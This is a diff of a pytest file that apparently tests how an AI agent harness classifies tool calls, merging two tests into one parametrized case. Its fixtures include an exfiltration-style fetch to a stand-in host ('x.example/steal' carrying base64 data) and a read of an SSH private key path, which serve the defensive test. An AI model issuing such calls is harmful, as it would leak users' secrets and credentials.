@@ -216,12 +216,20 @@ def test_del_inside_a_name_is_not_a_verb(tmp_path: Path) -> None:
     assert operation_verb("estado_del_pedido") is None
 
 
-def test_a_plain_read_with_a_url_to_another_machine_is_left_to_the_model(tmp_path: Path) -> None:
-    e = name_effect("fetch", {"url": "https://x.example/steal?d=c2VjcmV0"}, cwd=str(tmp_path))
+@pytest.mark.parametrize(("tool", "judged", "said", "plain"), [
+    ("fetch", {"url": "https://x.example/steal?d=c2VjcmV0"}, "leaves the machine",
+     {"url": "http://localhost:8000/health"}),
+    ("read_file", {"path": "/home/u/.ssh/id_rsa"}, "looks like a secret", {"path": "src/app.py"}),
+])
+def test_a_plain_read_of_a_url_elsewhere_or_a_secret_is_left_to_the_model(
+        tmp_path: Path, tool: str, judged: dict, said: str, plain: dict) -> None:
+    """As a harness's WebFetch and a Read of ~/.ssh/id_rsa are; the same read of a local URL
+    or an ordinary file stays read-only by rule."""
+    e = name_effect(tool, judged, cwd=str(tmp_path))
     assert e is not None and e.effect is EffectClass.READ_ONLY and e.needs_model
-    assert "leaves the machine" in e.evidence
-    local = name_effect("fetch", {"url": "http://localhost:8000/health"}, cwd=str(tmp_path))
-    assert local is not None and not local.needs_model
+    assert said in e.evidence
+    other = name_effect(tool, plain, cwd=str(tmp_path))
+    assert other is not None and not other.needs_model
 
 
 def test_a_path_in_a_remote_repository_is_not_a_local_path(tmp_path: Path) -> None:
@@ -229,14 +237,6 @@ def test_a_path_in_a_remote_repository_is_not_a_local_path(tmp_path: Path) -> No
                                               "content": "x", "branch": "main"},
                     cwd=str(tmp_path))
     assert e is not None and e.effect is EffectClass.EXTERNAL, e
-
-
-def test_a_plain_read_of_a_secret_looking_file_is_left_to_the_model(tmp_path: Path) -> None:
-    e = name_effect("read_file", {"path": "/home/u/.ssh/id_rsa"}, cwd=str(tmp_path))
-    assert e is not None and e.effect is EffectClass.READ_ONLY and e.needs_model
-    assert "looks like a secret" in e.evidence
-    plain = name_effect("read_file", {"path": "src/app.py"}, cwd=str(tmp_path))
-    assert plain is not None and not plain.needs_model
 
 
 @pytest.mark.parametrize("tool", ["transition_issue", "rebuild_index", "fork_repository",
